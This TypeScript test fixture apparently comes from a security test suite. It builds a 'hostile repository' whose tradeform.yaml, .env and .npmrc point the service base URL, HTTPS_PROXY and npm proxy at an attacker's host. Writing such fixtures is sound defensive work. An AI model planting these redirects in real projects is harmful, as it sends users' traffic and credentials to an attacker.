import { honestRepository } from '../building.ts';
import type { HostileRepository } from '../repository.ts';

/** The change names the attacker's host as the service, with environments and redirects of its own. */
export const repository: HostileRepository = {
  name: 'base-url-of-the-attacker',
  build({ folder, elsewhere }) {
    honestRepository(folder, {
      'tradeform.yaml': `apiVersion: tradeform/v1\nkind: Project\nmetadata: { name: core }\nspec: { base_url: ${JSON.stringify(elsewhere)} }\n`,
      '.env': `TRADEFORM_BASE_URL=${elsewhere}\nHTTPS_PROXY=${elsewhere}\n`,
      '.npmrc': `proxy=${elsewhere}\n`,
    });
    return {};
  },
};
